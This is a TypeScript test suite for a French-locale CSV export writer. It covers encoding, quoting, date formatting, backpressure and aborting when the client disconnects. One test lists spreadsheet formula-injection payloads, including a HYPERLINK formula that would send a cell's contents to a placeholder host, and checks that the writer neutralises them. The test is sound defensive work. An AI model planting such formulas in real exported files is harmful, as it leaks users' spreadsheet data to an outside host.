import { PassThrough, Writable } from 'node:stream';
import { parse } from 'csv-parse/sync';
import type { ExportColumn } from '../../src/lib/exports/columns';
import { neutralizeFormula, writeCsv } from '../../src/lib/exports/csv';
import { ExportAbortedError } from '../../src/lib/exports/output';

/** Runs writeCsv into memory and returns the raw bytes. */
async function csvBytes(columns: ExportColumn[], rows: Iterable<Record<string, unknown>> | AsyncIterable<Record<string, unknown>>) {
  const out = new PassThrough();
  const chunks: Buffer[] = [];
  out.on('data', (chunk: Buffer) => chunks.push(chunk));
  const count = await writeCsv(out, columns, rows);
  return { count, bytes: Buffer.concat(chunks) };
}

const columns: ExportColumn[] = [
  { key: 'name', label: 'Nom' },
  { key: 'tags', label: 'Étiquettes' },
  { key: 'updatedAt', label: 'Mis à jour le' },
  { key: 'amount', label: 'Montant' },
];

describe('writeCsv', () => {
  test('writes UTF-8 with a BOM, semicolons and CRLF, and counts the data rows', async () => {
    const { count, bytes } = await csvBytes(columns, [
      { name: 'Université Lyon 1', tags: ['santé', 'numérique'], updatedAt: new Date('2026-07-14T22:30:00Z'), amount: 1234.5 },
    ]);
    expect(count).toBe(1);
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const text = bytes.toString('utf8').slice(1);
    expect(text).toBe('Nom;Étiquettes;Mis à jour le;Montant\r\nUniversité Lyon 1;santé, numérique;15/07/2026;1234,5\r\n');
  });

  test('quotes delimiters, quotes and line breaks so a parser reads the values back intact', async () => {
    const tricky = ['Dupont; Fils', 'Le "Campus" connecté', 'ligne 1\r\nligne 2', 'a\nb', '  espaces  ', 'Zoë 🎓'];
    const { bytes } = await csvBytes(
      [{ key: 'value', label: 'Valeur' }],
      tricky.map((value) => ({ value })),
    );
    const records = parse(bytes, { bom: true, delimiter: ';', record_delimiter: '\r\n', relax_quotes: false }) as string[][];
    expect(records).toEqual([['Valeur'], ...tricky.map((value) => [value])]);
    expect(bytes.toString('utf8')).toContain('"Le ""Campus"" connecté"');
  });

  test('prefixes an apostrophe to cells a spreadsheet would run as formulas', async () => {
    const payloads = ['=HYPERLINK("http://x.example/?"&A1;"clic")', '+33612345678', '-2+3', '@SUM(A1:A2)', '\tcmd', '\rcmd', '＝1+1'];
    const { bytes } = await csvBytes(
      [{ key: 'value', label: 'Valeur' }],
      payloads.map((value) => ({ value })),
    );
    const records = parse(bytes, { bom: true, delimiter: ';' }) as string[][];
    expect(records.slice(1).map((record) => record[0])).toEqual(payloads.map((payload) => `'${payload}`));
    expect(neutralizeFormula('Université')).toBe('Université');
    expect(neutralizeFormula('')).toBe('');
  });

  test('leaves numbers alone (a negative amount stays a number) but checks formatter output', async () => {
    const { bytes } = await csvBytes(
      [
        { key: 'amount', label: 'Montant' },
        { key: 'name', label: 'Nom', format: (value) => String(value) },
      ],
      [{ amount: -1500.25, name: '=1+1' }],
    );
    expect(bytes.toString('utf8')).toContain("-1500,25;'=1+1\r\n");
  });

  test('formats dates in Paris, date-only strings without shifting, booleans and empty values', async () => {
    const { bytes } = await csvBytes(
      [
        { key: 'at', label: 'Le', type: 'datetime' },
        { key: 'day', label: 'Jour', type: 'date' },
        { key: 'flag', label: 'Actif' },
        { key: 'none', label: 'Vide' },
        { key: 'list', label: 'Liste' },
      ],
      [{ at: new Date('2026-01-05T08:05:00Z'), day: '2026-03-29', flag: true, none: null, list: [null, 'a', '', new Date('2025-12-31T23:30:00Z')] }],
    );
    expect(bytes.toString('utf8').split('\r\n')[1]).toBe('05/01/2026 09:05;29/03/2026;oui;;a, 01/01/2026');
  });

  test('reads an async iterable (a database cursor) and waits for a slow reader', async () => {
    async function* rows() {
      for (let index = 0; index < 5_000; index += 1) yield { name: `Structure ${index} — ${'x'.repeat(50)}` };
    }
    let peakBuffered = 0;
    const received: Buffer[] = [];
    const slow: Writable = new Writable({
      highWaterMark: 1024,
      write(chunk: Buffer, _encoding, callback) {
        received.push(chunk);
        peakBuffered = Math.max(peakBuffered, slow.writableLength);
        setImmediate(callback);
      },
    });
    const count = await writeCsv(slow, [{ key: 'name', label: 'Nom' }], rows());
    expect(count).toBe(5_000);
    // ~330 KB in all, but never more than one 64 KiB chunk waiting: the writer awaited 'drain'.
    expect(Buffer.concat(received).length).toBeGreaterThan(300_000);
    expect(peakBuffered).toBeLessThanOrEqual(2 * 64 * 1024);
    const records = parse(Buffer.concat(received), { bom: true, delimiter: ';' }) as string[][];
    expect(records).toHaveLength(5_001);
  });

  test('stops reading rows when the client has gone away', async () => {
    let produced = 0;
    let closedCursor = false;
    async function* rows() {
      try {
        for (;;) {
          produced += 1;
          yield { name: 'x'.repeat(1_000) };
        }
      } finally {
        closedCursor = true;
      }
    }
    const gone = new Writable({
      highWaterMark: 1024,
      write(_chunk, _encoding, callback) {
        // Never acknowledges; the reader disconnects instead.
        setTimeout(() => gone.destroy(), 5);
        void callback;
      },
    });
    await expect(writeCsv(gone, [{ key: 'name', label: 'Nom' }], rows())).rejects.toBeInstanceOf(ExportAbortedError);
    expect(closedCursor).toBe(true);
    expect(produced).toBeLessThan(1_000);
  });
});
